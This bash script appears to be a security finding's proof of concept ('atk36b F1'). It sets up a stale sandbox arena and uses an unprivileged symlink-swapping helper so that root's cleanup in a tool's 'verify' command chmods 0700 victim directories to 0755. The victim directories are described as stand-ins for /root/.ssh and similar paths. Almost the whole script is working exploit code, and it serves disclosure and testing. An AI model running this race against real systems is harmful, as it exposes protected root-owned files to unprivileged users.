#!/bin/bash
# atk36b F1: verify's stale-arena removal (internal/harness/stale.go) chmods, as root, directories
# reached through a link an unprivileged user swaps into an arena's 0777 outside/ directory.
# Run as root. Needs /tmp/atk36b/swapper (swap.go built: cd /work/main && CGO_ENABLED=0 go build -o /tmp/atk36b/swapper /work/notes/atk36b/swap.go) and /tmp/atk36b/mcpsandbox (CGO_ENABLED=0 go build -o /tmp/atk36b/mcpsandbox ./cmd/mcpsandbox).
set -u
BIN=${BIN:-/tmp/atk36b/mcpsandbox}
HERE=$(cd "$(dirname "$0")" && pwd)
S=/var/tmp/mcpsandbox-harness-atk36bstale
V=/tmp/atk36b/victim
rm -rf "$S" "$V"
# a stale arena as a killed run left it: root's, 0755, its marker names a run that is gone,
# outside/ 0777 (arena.go makes it so)
mkdir -m 0755 "$S"; echo "999999 12345" > "$S/.mcpsandbox-harness-run"
mkdir -m 0777 "$S/outside"
# the victim: root's directories of mode 0700 (stand-ins for /root, /root/.ssh, /etc/ssl/private)
mkdir -m 0755 -p "$V"; for i in $(seq -w 0 399); do mkdir -m 0700 "$V/t$i"; done
# the unprivileged user (nobody) plants x/ (its own: the walk chmods outside/ 0755 first, x/ stays
# writable by its owner), in it a directory a/ with the same names and a link b -> victim
setpriv --reuid 65534 --regid 65534 --clear-groups bash -c "mkdir -p $S/outside/x/a && cd $S/outside/x/a && for i in \$(seq -w 0 399); do mkdir t\$i; done; ln -s $V $S/outside/x/b"
setpriv --reuid 65534 --regid 65534 --clear-groups ${SWAPPER:-/tmp/atk36b/swapper} "$S/outside/x" 40 &
SW=$!
sleep 1
echo "before: $(find $V -mindepth 1 -maxdepth 1 -perm 0700 | wc -l) victim dirs 0700, $(find $V -mindepth 1 -maxdepth 1 -perm 0755 | wc -l) 0755"
# a later verify's first arena removes the stale one
timeout -s TERM 15 ${STRACE:-} "$BIN" verify --default >/tmp/atk36b/verify.out 2>&1
kill $SW 2>/dev/null; wait $SW 2>/dev/null
echo "stale arena still there: $(test -e $S && echo yes || echo no)"
echo "after:  $(find $V -mindepth 1 -maxdepth 1 -perm 0700 | wc -l) victim dirs 0700, $(find $V -mindepth 1 -maxdepth 1 -perm 0755 | wc -l) 0755 (chmodded by root through the link)"
rm -rf "$S" "$V"
